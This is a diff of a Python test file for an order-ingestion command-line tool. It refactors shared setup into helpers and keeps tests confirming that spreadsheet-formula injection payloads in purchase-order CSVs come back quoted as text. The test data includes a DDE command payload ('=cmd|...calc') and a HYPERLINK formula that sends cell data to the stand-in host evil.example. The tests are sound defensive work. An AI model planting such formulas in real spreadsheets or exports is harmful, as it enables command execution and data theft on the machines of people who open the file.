@@ -15,15 +15,36 @@ ORDER_TABLE = (
 )
 
 
+ORDER_COLUMNS = ["po_number", "buyer_part", "sku", "quantity", "uom", "unit_price", "ship_to_name",
+                 "ship_to_street", "ship_to_city", "ship_to_postal_code", "ship_to_country"]
+ACME_DC = ["Acme DC East", "400 Industrial Pkwy", "Columbus", "43215", "US"]
+
+
 def run(capsys, *argv: str) -> tuple[int, str]:
     code = main(list(argv))
     return code, capsys.readouterr().out
 
 
-def test_ingest_a_csv_for_the_customer_given_on_the_command_line(tmp_path, monkeypatch, capsys):
+def seeded_home(tmp_path, monkeypatch, capsys) -> None:
+    """A fresh ORDERGATE_HOME with the sample master data, as a user would set one up."""
     monkeypatch.setenv("ORDERGATE_HOME", str(tmp_path / "home"))
     monkeypatch.delenv("ORDERGATE_DATABASE_URL", raising=False)
     assert run(capsys, "seed", str(ROOT / "samples" / "masterdata"))[0] == 0
+
+
+def order_csv(tmp_path, *rows: list[str]) -> Path:
+    """po.csv with ORDER_COLUMNS; each row gives the columns up to unit_price, shipped to
+    Acme's DC."""
+    path = tmp_path / "po.csv"
+    with path.open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(ORDER_COLUMNS)
+        writer.writerows([*row, *ACME_DC] for row in rows)
+    return path
+
+
+def test_ingest_a_csv_for_the_customer_given_on_the_command_line(tmp_path, monkeypatch, capsys):
+    seeded_home(tmp_path, monkeypatch, capsys)
     path = tmp_path / "po.csv"
     path.write_text(ORDER_TABLE, encoding="utf-8")
 
@@ -50,9 +71,7 @@ def test_ingest_a_csv_for_the_customer_given_on_the_command_line(tmp_path, monke
 
 
 def test_an_unknown_customer_on_the_command_line_fails_the_file(tmp_path, monkeypatch, capsys):
-    monkeypatch.setenv("ORDERGATE_HOME", str(tmp_path / "home"))
-    monkeypatch.delenv("ORDERGATE_DATABASE_URL", raising=False)
-    assert run(capsys, "seed", str(ROOT / "samples" / "masterdata"))[0] == 0
+    seeded_home(tmp_path, monkeypatch, capsys)
     path = tmp_path / "po.csv"
     path.write_text(ORDER_TABLE, encoding="utf-8")
 
@@ -65,20 +84,11 @@ def test_an_unknown_customer_on_the_command_line_fails_the_file(tmp_path, monkey
 
 def test_the_ack_of_an_order_carrying_a_formula_shows_it_as_text_and_each_reason_once(
         tmp_path, monkeypatch, capsys):
-    monkeypatch.setenv("ORDERGATE_HOME", str(tmp_path / "home"))
-    monkeypatch.delenv("ORDERGATE_DATABASE_URL", raising=False)
-    assert run(capsys, "seed", str(ROOT / "samples" / "masterdata"))[0] == 0
+    seeded_home(tmp_path, monkeypatch, capsys)
     formula = "=cmd|' /C calc'!A0"
-    path = tmp_path / "po.csv"
-    with path.open("w", encoding="utf-8", newline="") as handle:
-        writer = csv.writer(handle)
-        writer.writerow(["po_number", "buyer_part", "sku", "quantity", "uom", "unit_price",
-                         "ship_to_name", "ship_to_street", "ship_to_city", "ship_to_postal_code",
-                         "ship_to_country"])
-        address = ["Acme DC East", "400 Industrial Pkwy", "Columbus", "43215", "US"]
-        # line 1 is held for its price, line 2 names an item we do not know
-        writer.writerow(["CLI-200", formula, "HW-1001", "2", "CS", "99.00", *address])
-        writer.writerow(["CLI-200", "@SUM(1+1)", formula, "1", "CS", "9.75", *address])
+    # line 1 is held for its price, line 2 names an item we do not know
+    path = order_csv(tmp_path, ["CLI-200", formula, "HW-1001", "2", "CS", "99.00"],
+                     ["CLI-200", "@SUM(1+1)", formula, "1", "CS", "9.75"])
 
     code, out = run(capsys, "ingest", str(path), "--customer", "ACME", "--json")
     [document] = json.loads(out)["documents"]
@@ -99,18 +109,9 @@ def test_the_ack_of_an_order_carrying_a_formula_shows_it_as_text_and_each_reason
 def test_formulas_behind_a_separator_in_the_po_number_and_buyer_part_are_quoted_in_the_ack(
         tmp_path, monkeypatch, capsys):
     # Excel set to ";" as separator (German locale) splits such a cell and runs its second half.
-    monkeypatch.setenv("ORDERGATE_HOME", str(tmp_path / "home"))
-    monkeypatch.delenv("ORDERGATE_DATABASE_URL", raising=False)
-    assert run(capsys, "seed", str(ROOT / "samples" / "masterdata"))[0] == 0
+    seeded_home(tmp_path, monkeypatch, capsys)
     po_number = 'X;=HYPERLINK("http://evil.example/?"&A1;"click")'
-    path = tmp_path / "po.csv"
-    with path.open("w", encoding="utf-8", newline="") as handle:
-        writer = csv.writer(handle)
-        writer.writerow(["po_number", "buyer_part", "sku", "quantity", "uom", "unit_price",
-                         "ship_to_name", "ship_to_street", "ship_to_city", "ship_to_postal_code",
-                         "ship_to_country"])
-        writer.writerow([po_number, ";@SUM(1+1)", "HW-1001", "2", "CS", "", "Acme DC East",
-                         "400 Industrial Pkwy", "Columbus", "43215", "US"])
+    path = order_csv(tmp_path, [po_number, ";@SUM(1+1)", "HW-1001", "2", "CS", ""])
 
     code, out = run(capsys, "ingest", str(path), "--customer", "ACME", "--json")
     [document] = json.loads(out)["documents"]
